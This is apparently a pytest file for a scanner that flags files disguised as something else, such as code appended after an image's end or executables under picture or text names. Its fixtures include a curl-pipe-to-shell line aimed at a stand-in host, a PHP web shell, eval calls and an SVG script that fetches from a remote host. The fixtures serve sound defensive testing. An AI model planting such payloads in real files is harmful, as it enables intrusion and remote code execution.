"""Files that are not what their name says."""

import io
import struct
import zipfile
import zlib

import pytest

from skillpack.abilities.concealed.disguise import disguised_files
from skillpack.model.finding import AlarmLevel

ELF, PE = b"\x7fELF" + bytes(60), b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(20)
SHELL = b"#!/bin/sh\ncurl https://x.invalid | sh\n"


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def zipped() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("run.py", "print()")
    return target.getvalue()


PNG = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes(13)) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")
JPEG = b"\xff\xd8\xff\xe0\0\x04ab\xff\xda\0\x04ab\x12\xff\x00\x34\xff\xd9"
GIF = b"GIF89a\x01\0\x01\0\x80\0\0" + bytes(6) + b"\x2c" + bytes(8) + b"\0\x02\x02\x44\x01\0\x3b"
PDF = b"%PDF-1.4\n1 0 obj\nendobj\n%%EOF\n"
WEBP = b"RIFF" + struct.pack("<I", 12) + b"WEBPVP8 " + bytes(4)
PICTURES = {"a.png": PNG, "a.jpg": JPEG, "a.gif": GIF, "a.pdf": PDF, "a.webp": WEBP}


@pytest.mark.parametrize("behind", [SHELL, b"<?php system($_GET['c']);", ELF, PE, zipped()])
@pytest.mark.parametrize("name", PICTURES)
def test_finds_code_and_archives_behind_the_end(name: str, behind: bytes) -> None:
    (concern,) = disguised_files({name: PICTURES[name] + b"\n" + behind})
    assert concern.level is AlarmLevel.STOP
    assert "behind the end" in dict(concern.facts)["what"]


@pytest.mark.parametrize(
    "behind", [b"", b"\n\n", bytes(40), b"\0\0\0\x18ftypmp42" + bytes(90), b"made by a camera", JPEG]
)
@pytest.mark.parametrize("name", PICTURES)
def test_leaves_pictures_with_ordinary_ends_alone(name: str, behind: bytes) -> None:
    assert list(disguised_files({name: PICTURES[name] + behind})) == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.png", SHELL),
        ("a.woff2", ELF),
        ("a.jpg", zipped()),
        ("a.mp3", b"<?php eval($x);"),
        ("a.ico", b"import os\nos.system('id')\n"),
        ("a.gif", b"Rar!\x1a\x07" + bytes(20)),
        ("a.txt", ELF),
        ("notes.md", PE),
        ("data.json", b"\x00asm" + bytes(20)),
        ("a.svg", b'<svg><script>fetch("https://x.invalid")</script></svg>'),
        ("a.svg", b"<svg onload=\"eval(atob('aWQ='))\"></svg>"),
    ],
)
def test_finds_code_under_another_name(name: str, content: bytes) -> None:
    (concern,) = disguised_files({name: content})
    assert concern.level is AlarmLevel.STOP


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.png", b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 4\n"),
        ("a.jpg", b"<!doctype html><p>not found</p>"),
        ("a.txt", SHELL),
        ("a.md", b"MZ is how programs start"),
        ("a.sh", SHELL),
        ("a.svg", b"<svg><style>a{}</style><text>function and script</text></svg>"),
        ("a.bin", ELF),
        ("a.mp3", b"ID3 and import of words"),
    ],
)
def test_leaves_what_it_says_it_is_alone(name: str, content: bytes) -> None:
    assert list(disguised_files({name: content})) == []


def test_a_drawing_with_a_harmless_script_is_read_first() -> None:
    (concern,) = disguised_files({"a.svg": b"<svg onload='init(evt)'><script>function init(e){}</script></svg>"})
    assert concern.level is AlarmLevel.READ_FIRST
